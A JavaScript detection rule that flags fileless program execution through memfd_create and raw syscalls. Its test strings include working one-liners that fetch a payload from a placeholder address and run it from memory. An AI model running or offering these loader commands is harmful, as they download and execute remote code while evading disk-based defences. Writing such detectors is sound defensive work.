import { commandRule } from "../../command-rule.js";

/** A one-liner makes a file in memory and runs it, so that no program is ever on disk. */
export const memoryFileMade = commandRule({
  id: "memory-file-made",
  alertType: "Picket_MemoryFileMade",
  name: "Program made in memory",
  severity: "High",
  about: "A one-liner makes a file in memory and runs it, so that no program is ever on disk.",
  tactics: ["Execution", "Defense Evasion"],
  techniques: ["T1620", "T1027.011"],
  falsePositives: ["None are known on devices; language runtimes use the call from compiled code."],
  witness: ["memfd_create", "syscall(319", "syscall(279", "syscall(356", "ctypes"],
  patterns: [/memfd_create.{0,200}/s, /\bsyscall\s{0,2}\(?\s{0,2}(?:319|279|356)\b.{0,200}/s],
  except: [/^(?:\S*\/)?(?:grep|rg|man|vim?|strace|gcc|cc|git|less|bpftrace)\s/],
  did: "made a program in memory",
  because: "it runs a program that is never on disk",
  fires: [
    "python3 -c import ctypes,os;fd=ctypes.CDLL(None).memfd_create(b'',1);os.execve(f'/proc/self/fd/{fd}',['x'],{})",
    'perl -e $f=syscall(319,"",1);open(F,">&=".$f);print F `curl -s http://203.0.113.9/x`;exec "/proc/$$/fd/$f"',
    "sh -c wget -qO- http://203.0.113.9/x | perl -e 'my $fd = syscall(319, $n, 1);'",
  ],
  silent: [
    "grep -rn memfd_create src/",
    "man memfd_create",
    "gcc -DHAVE_MEMFD_CREATE=1 -c util.c",
    "strace -e memfd_create ./app",
    "python3 -c import ctypes; print(ctypes.sizeof(ctypes.c_long))",
  ],
});
